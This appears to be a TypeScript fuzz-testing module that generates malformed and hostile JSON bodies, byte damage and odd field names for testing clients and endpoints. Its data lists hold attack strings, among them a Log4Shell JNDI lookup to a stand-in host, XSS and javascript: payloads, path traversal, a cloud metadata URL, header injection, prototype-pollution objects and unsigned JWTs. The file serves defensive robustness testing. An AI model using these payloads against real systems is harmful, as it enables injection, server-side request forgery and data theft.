// Malformed and hostile JSON documents by seeded chance.
import { Schema } from "effect"
import * as SeededRandom from "./SeededRandom.ts"

export type Chance = () => number

/** The members of an object, each value as its JSON text, so that names may repeat and values may be invalid. */
export type Members = ReadonlyArray<readonly [name: string, json: string]>

export const json: (value: unknown) => string = Schema.encodeSync(Schema.fromJsonString(Schema.Unknown))

export const members = (object: Readonly<Record<string, unknown>>): Members =>
  Object.entries(object).map(([name, value]) => [name, json(value)])

export const happens = (chance: Chance, share: number): boolean => chance() < share

/** A whole number from 0, below `end`. */
export const below = (chance: Chance, end: number): number => Math.floor(chance() * end)

const nest = (depth: number, open: string, close: string): string => `${open.repeat(depth)}0${close.repeat(depth)}`

/** Texts that are known to break programs. */
const oddTexts: readonly [string, ...ReadonlyArray<string>] = [
  "",
  " ",
  "\u0000",
  "a\r\nset-cookie: b=c",
  "\u2028\u2029\u0085",
  "\u202eevil\u202c\u200b\ufeff",
  "\ud800",
  "\udfff\ud800",
  "😀".repeat(60),
  "e\u0301\u0335".repeat(200),
  "İıſK",
  "__proto__",
  "constructor",
  "../../etc/passwd",
  "https://evil.example/%00?a=b#c",
  "https://user:pass@evil.example\\@op.example/",
  "https://[::1",
  "http://169.254.169.254/latest",
  "javascript:alert(1)",
  "\u001b[31mred\u001b[0m\u0007",
  "<script>alert(1)</script>",
  "$\u007bjndi:ldap://evil.example/a}",
  "%s%n%x",
  "null",
  "NaN",
  "-1",
  "5",
  "1e400",
  "0x10",
  "५",
  "x".repeat(300),
  "y".repeat(9000),
  "a.b.c",
  "..",
  "eyJhbGciOiJub25lIn0.e30.",
  "eyJhbGciOiJIUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19.e30.AA"
]

/** Values as JSON text, some of them invalid. */
const oddValues: readonly [string, ...ReadonlyArray<string>] = [
  "null",
  "true",
  "false",
  "0",
  "-0",
  "-1",
  "1",
  "0.5",
  "1e-400",
  "1e308",
  "1e400",
  "-1e400",
  "9007199254740993",
  "315360000",
  "315360001",
  "8640000000001",
  `1${"0".repeat(400)}`,
  "NaN",
  "Infinity",
  "undefined",
  "'single'",
  "01",
  "+1",
  ".5",
  "0x1F",
  "[]",
  "{}",
  "[[]]",
  "[null]",
  '["a",1]',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":null,"valueOf":1,"then":"x","_tag":"Some"}',
  '"\\ud800"',
  '"\\u0000"',
  '"\\x41"',
  '"\u0007"',
  '"unclosed',
  "[1,]",
  '{"a":1,}',
  "/* comment */ 1",
  nest(90, "[", "]"),
  nest(101, "[", "]"),
  nest(30_000, "[", "]"),
  nest(99, '{"a":', "}"),
  nest(10_000, '{"a":', "}"),
  "[".repeat(4000),
  `[${"0,".repeat(3000)}0]`,
  `[${'{"kty":"EC"},'.repeat(300)}{}]`
]

export const oddText = (chance: Chance): string =>
  happens(chance, 0.8)
    ? SeededRandom.oneOf(chance, oddTexts)
    : String.fromCharCode(...Array.from({ length: below(chance, 40) }, () => below(chance, 0x10000)))

const oddValue = (chance: Chance): string =>
  happens(chance, 0.6) ? SeededRandom.oneOf(chance, oddValues) : json(oddText(chance))

const oddNames: readonly [string, ...ReadonlyArray<string>] = [
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "then",
  "toJSON",
  "_tag",
  "error",
  "error_description",
  "error_uri",
  "",
  "\u0000"
]

/** One change to an object's members. */
const change = (chance: Chance, given: Members): Members => {
  const at = below(chance, given.length)
  const [name = "", value = "null"] = given[at] ?? []
  const replace = (text: string) => given.map((member, index) => (index === at ? ([name, text] as const) : member))
  switch (below(chance, 9)) {
    case 0:
      return given.filter((_, index) => index !== at)
    case 1:
      return [...given, [name, oddValue(chance)]]
    case 2:
      return replace(`[${value}]`)
    case 3:
      return replace(/^"/.test(value) ? value.replaceAll('"', "") : json(value))
    case 4:
      return [...given, [SeededRandom.oneOf(chance, oddNames), oddValue(chance)]]
    case 5:
      return [[name.toUpperCase(), value], ...given.filter((_, index) => index !== at)]
    case 6:
      return replace(json(oddText(chance)))
    default:
      return replace(oddValue(chance))
  }
}

/** The members with up to four changes; sometimes with none. */
export const mutate = (chance: Chance, given: Members): Members =>
  Array.from({ length: below(chance, 5) }).reduce<Members>((left) => change(chance, left), given)

/** An object as text, in one of the ways in which servers write it. */
export const write = (chance: Chance, given: Members): string => {
  const space = SeededRandom.oneOf(chance, ["", "", "", " ", "\r\n\t"])
  return `${space}{${given.map(([name, value]) => `${space}${json(name)}:${value}`).join(",")}}${space}`
}

const utf8 = (text: string) => new TextEncoder().encode(text)

const bytesOf = (...parts: ReadonlyArray<string | ReadonlyArray<number> | Uint8Array>): Uint8Array =>
  Uint8Array.from(parts.flatMap((part) => [...(typeof part === "string" ? utf8(part) : part)]))

const random = (chance: Chance, length: number): Uint8Array => Uint8Array.from({ length }, () => below(chance, 256))

/** The bytes of a text, often damaged in transit. */
export const garble = (chance: Chance, text: string): Uint8Array => {
  if (happens(chance, 0.6)) return utf8(text)
  const bytes = utf8(text)
  const at = below(chance, bytes.length + 1)
  switch (below(chance, 17)) {
    case 0:
      return bytes.slice(0, at)
    case 1:
      return bytesOf([0xef, 0xbb, 0xbf], text)
    case 2:
      return bytesOf([0xff, 0xfe], Uint8Array.from([...text].flatMap((one) => [one.charCodeAt(0) & 255, 0])))
    case 3:
      return bytesOf(bytes.slice(0, at), [0xc3, 0x28, 0xed, 0xa0, 0x80], bytes.slice(at))
    case 4:
      return bytes.map((byte, index) => (index === at ? below(chance, 256) : byte))
    case 5:
      return bytesOf(text, text)
    case 6:
      return bytesOf(")]}',\n", text)
    case 7:
      return utf8(`<!doctype html><html><body><pre>${text}</pre></body></html>`)
    case 8:
      return utf8("")
    case 9:
      return bytesOf([0x1f, 0x8b, 8, 0], random(chance, 60))
    case 10:
      return random(chance, below(chance, 400))
    case 11:
      return utf8(json(text))
    case 12:
      return utf8(`[${text}]`)
    case 13:
      return utf8(`callback(${text});`)
    case 14:
      return utf8(oddValue(chance))
    case 15:
      return bytesOf(text, " ".repeat(limit))
    default:
      return utf8(`{"pad":${json("p".repeat(limit - below(chance, 100)))},${text.trim().slice(1)}`)
  }
}

/** The largest body that the clients and endpoints under test read, in bytes. */
export const limit = 65_536
